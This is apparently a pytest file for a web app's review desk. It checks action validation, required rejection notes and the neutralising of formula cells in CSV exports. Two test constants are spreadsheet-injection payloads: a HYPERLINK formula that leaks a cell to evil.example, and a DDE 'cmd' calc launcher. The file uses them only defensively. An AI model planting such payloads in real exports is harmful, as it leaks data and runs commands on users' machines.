"""The review desk refuses what it does not understand; its CSV exports are safe in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from api.auth.service import create_user
from api.core.db import sessions_for, unit_of_work
from api.core.jobs import JobBuffer
from api.models import Suggestion
from api.models.enums import Role
from tests import factories
from tests.helpers import csrf_of, register, web_login
from tests.samples import VISION_NEED, VISION_OFFER

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Clicca qui")'
LONELY_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def waiting(client, settings):  # type: ignore[no-untyped-def]
    """A pending suggestion whose need's title is a spreadsheet formula, and the cluster's facilitator."""
    company, lab = register(client), register(client, org_type="research_lab")
    need = client.post(
        "/api/v1/postings", json={**VISION_NEED, "title": FORMULA_TITLE}, headers=company["headers"]
    ).json()
    offer = client.post("/api/v1/postings", json=VISION_OFFER, headers=lab["headers"]).json()
    # A need without any suggestion, for the "needs without a good offer" table.
    client.post("/api/v1/postings", json={**VISION_NEED, "title": LONELY_TITLE}, headers=company["headers"])
    sessions = sessions_for(settings.resolved_database_url)
    with unit_of_work(sessions) as session:
        suggestion_id = factories.suggestion(session, need["id"], offer["id"], status="pending_review").id
        create_user(
            session,
            email="mech@example.it",
            password="a-long-password",
            role=Role.facilitator,
            clusters=["mechatronics_automotive"],
        )
    web_login(client, "mech@example.it")
    return {"id": suggestion_id, "sessions": sessions, "need": need}


def _status(waiting) -> str:  # type: ignore[no-untyped-def]
    with waiting["sessions"]() as session:
        return session.scalar(select(Suggestion.status).where(Suggestion.id == waiting["id"]))


@pytest.mark.parametrize("action", ["delete", "APPROVE", ""])
def test_the_desk_refuses_an_unknown_action_in_both_languages_and_changes_nothing(client, waiting, action):
    desk = client.get("/desk").text
    form = {"ids": [waiting["id"]], "action": action, "note": "una nota", "csrf": csrf_of(desk)}
    italian = client.post("/desk/review", data=form)
    assert italian.status_code == 422 and "Azione sconosciuta" in italian.text
    english = client.post("/desk/review?lang=en", data=form)
    assert english.status_code == 422 and "Unknown action: choose Approve or Reject" in english.text
    assert _status(waiting) == "pending_review"


def test_rejecting_on_the_desk_needs_a_note_like_the_api(client, waiting):
    desk = client.get("/desk").text
    blank = client.post(
        "/desk/review", data={"ids": [waiting["id"]], "action": "reject", "note": "  ", "csrf": csrf_of(desk)}
    )
    assert blank.status_code == 422 and "serve una nota" in blank.text
    assert _status(waiting) == "pending_review"
    done = client.post(
        "/desk/review",
        data={"ids": [waiting["id"]], "action": "reject", "note": "Fuori tema", "csrf": csrf_of(desk)},
    )
    assert done.status_code == 200 and _status(waiting) == "rejected"


@pytest.mark.parametrize(
    ("table", "title"),
    [("postings", FORMULA_TITLE), ("suggestions", FORMULA_TITLE), ("unmet_needs", LONELY_TITLE)],
)
def test_dashboard_csv_cells_that_look_like_formulas_are_neutralised(client, waiting, table, title):
    response = client.get(f"/desk/dashboard/{table}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + title in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert all(row[0].isdigit() for row in rows[1:])  # ids stay numbers, not quoted text


def test_the_desk_shows_the_pairs_queued_by_a_daily_limit_and_how_many_ask_for_the_same_offer(
    client, waiting
):  # type: ignore[no-untyped-def]
    with unit_of_work(waiting["sessions"]) as session:
        offer_id = session.get(Suggestion, waiting["id"]).offer_id
        jobs = JobBuffer()
        for _ in range(2):
            need = factories.posting(session, jobs, factories.member(session), VISION_NEED)
            factories.suggestion(session, need.id, offer_id, status="waiting")
    desk = client.get("/desk").text
    assert "In coda per il limite giornaliero" in desk
    # The pending pair and the two queued ones: three companies ask for this offer.
    assert desk.count("3 aziende chiedono la stessa offerta") == 2
